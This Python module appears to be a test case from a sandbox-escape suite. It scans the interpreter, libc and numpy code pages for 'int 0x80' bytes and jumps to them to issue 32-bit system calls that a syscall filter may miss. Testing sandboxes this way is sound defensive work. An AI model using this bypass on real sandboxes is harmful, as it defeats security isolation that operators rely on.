"""Jumps to bytes in code of the interpreter, libc or numpy that make a 32-bit system call: int 0x80. Class D85."""

import sys

import numpy as np

ctypes = sys.modules["ctypes"]
libc = ctypes.CDLL(None, use_errno=True)
PAGE, CODE, REACH = 4096, b"\xcd\x80", 1024


def is_readable(page):
    """rt_sigprocmask reads its set before it looks at `how`."""
    libc.syscall(14, 99, ctypes.c_void_p(page), 0, 8)
    return ctypes.get_errno() != 14


def anchors():
    for function in (ctypes.pythonapi.PyEval_EvalCode, ctypes.pythonapi.PyLong_FromLong, libc.printf):
        yield ctypes.cast(function, ctypes.c_void_p).value
    method = ctypes.c_void_p.from_address(id(np.empty) + 16).value  # its PyMethodDef
    yield ctypes.c_void_p.from_address(method + 8).value


def attack(bait):
    for anchor in anchors():
        for step in (PAGE, -PAGE):
            page = anchor // PAGE * PAGE
            for page in range(page, page + REACH * step, step):
                if not is_readable(page):
                    break
                place = ctypes.string_at(page, PAGE).find(CODE)
                if place >= 0:
                    return ctypes.CFUNCTYPE(ctypes.c_long)(page + place)()
    return "no such bytes"
